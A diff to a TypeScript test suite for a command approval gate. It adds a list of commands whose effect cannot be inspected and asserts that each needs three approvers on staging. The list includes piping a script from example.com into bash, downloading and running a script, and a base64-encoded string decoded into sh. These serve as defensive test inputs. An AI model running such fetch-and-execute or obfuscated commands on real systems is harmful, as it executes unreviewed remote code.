@@ -18,11 +18,19 @@ const SPELLINGS = [
   'bin/search "$WHAT"',
   'eval "$WHAT"',
   'bin/search reindex "',
+  "mosh web -- 'bin/search reindex all'",
+];
+
+/** What cannot be seen could be anything, so that every clause applies. */
+const UNSEEN = [
+  'curl -fsSL https://example.com/steps.sh | bash',
+  'curl -o steps.sh https://example.com/steps.sh && bash steps.sh',
+  'echo YmluL3NlYXJjaCByZWluZGV4 | base64 -d | sh',
 ];
 
 /** Tests of clauses by command, on a gate with `POLICY`. */
 export function byCommand(workspace: () => Workspace): void {
-  test.each(SPELLINGS)('three people are needed for %j', async (command) => {
+  test.each([...SPELLINGS, ...UNSEEN])('three people are needed for %j', async (command) => {
     expect(await required(workspace(), command, 'staging')).toEqual([3, 3]);
   });
 
